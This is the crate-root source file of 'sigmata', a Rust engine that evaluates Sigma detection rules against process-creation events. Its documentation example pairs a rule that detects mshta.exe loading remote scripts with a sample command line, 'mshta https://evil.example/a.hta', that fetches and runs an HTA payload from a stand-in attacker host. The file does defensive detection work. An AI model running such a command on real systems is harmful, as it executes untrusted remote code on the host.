//! sigmata: a Sigma rule engine for process-creation events.
//!
//! sigmata compiles a pack of [Sigma](https://github.com/SigmaHQ/sigma-specification)
//! rules into one immutable [`Engine`] and evaluates events against all of
//! them at once. It implements the Sigma 2.1 detection semantics exactly
//! (every value modifier, the full condition grammar, meta filters,
//! placeholders), never panics on any rule or event, does no I/O, and is
//! `Send + Sync`.
//!
//! # Example
//!
//! ```
//! use sigmata::{Builder, Config};
//!
//! let rule = r#"
//! title: Mshta Executes Remote Script
//! logsource: {category: process_creation, product: windows}
//! detection:
//!     selection:
//!         Image|endswith: '\mshta.exe'
//!         CommandLine|contains: ['http://', 'https://']
//!     condition: selection
//! level: high
//! "#;
//! let (engine, report) = Builder::new().config(Config::new()).add_source("mshta.yml", rule).build();
//! assert!(report.errors.is_empty());
//!
//! let mut cache = engine.create_cache();
//! let mut matches = sigmata::MatchSet::new();
//! let event = serde_json::json!({
//!     "Image": r"C:\Windows\System32\MSHTA.EXE",
//!     "CommandLine": "mshta https://evil.example/a.hta",
//! });
//! engine.matches_with(&mut cache, &event, &mut matches);
//! assert_eq!(matches.len(), 1);
//! ```
//!
//! # Pipeline
//!
//! Each stage has its own module and type; see `ARCHITECTURE.md`:
//! YAML text → [`rule::Document`] → [`condition::Ast`] → [`ir::RuleIr`]
//! (modifiers compiled away, fields interned) → [`Engine`]. The
//! [`reference`](mod@reference) module evaluates the IR directly and is the oracle the
//! engine is tested against. Correlation rules run a layer above the engine:
//! [`Builder::build_correlated`] resolves them, and a [`correlate::Correlator`]
//! turns the stream of matches into alerts.

#![deny(missing_docs)]
#![warn(missing_debug_implementations)]

/// The hash map of compile-time tables (plan, lowering, field table):
/// foldhash with a fixed seed, several times faster than the standard
/// SipHash on the pattern strings planning interns (a tenth of load time),
/// and deterministic, so that two builds of one pack plan alike.
pub(crate) type Map<K, V> = std::collections::HashMap<K, V, foldhash::fast::FixedState>;

mod build;
pub mod bundle;
mod config;
pub mod correlate;
mod error;
pub mod event;
mod exec;
pub mod explain;
pub mod fold;
mod front;
pub mod ir;
mod plan;
pub mod reference;

// The front end's modules keep their paths at the crate root: they are the
// public rule model (`sigmata::rule::Rule`, `sigmata::yaml::locate_path`).
pub use front::{condition, modifier, rule, yaml};
pub use plan::freq;

pub use build::{Builder, LoadReport, NotApplicable};
pub use config::{AutomatonKind, Config};
pub use error::{Error, ErrorKind, LimitExceeded};
pub use event::{Event, Value};
#[cfg(feature = "json")]
pub use exec::json::{JsonError, JsonReader};
pub use exec::record::{Kind, Record};
pub use exec::{Cache, Engine, EvalCounters, MatchSet, PlanStats, RuleId};
pub use explain::Explanation;
pub use ir::{LoadedRule, Placeholders};
